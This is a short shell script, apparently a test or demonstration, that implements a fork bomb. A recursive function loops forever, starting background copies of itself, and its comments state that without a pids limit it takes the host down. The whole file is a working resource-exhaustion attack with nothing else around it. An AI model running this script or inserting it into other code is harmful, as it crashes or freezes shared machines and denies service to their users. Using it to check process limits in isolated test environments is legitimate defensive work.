#!/bin/sh
# Every process loops forever starting copies of itself in the background: without a pids
# limit this takes the host down. Nothing here ever ends by itself.
echo "forking without bound" >&2
bomb() {
  while :; do
    bomb &
  done
}
bomb
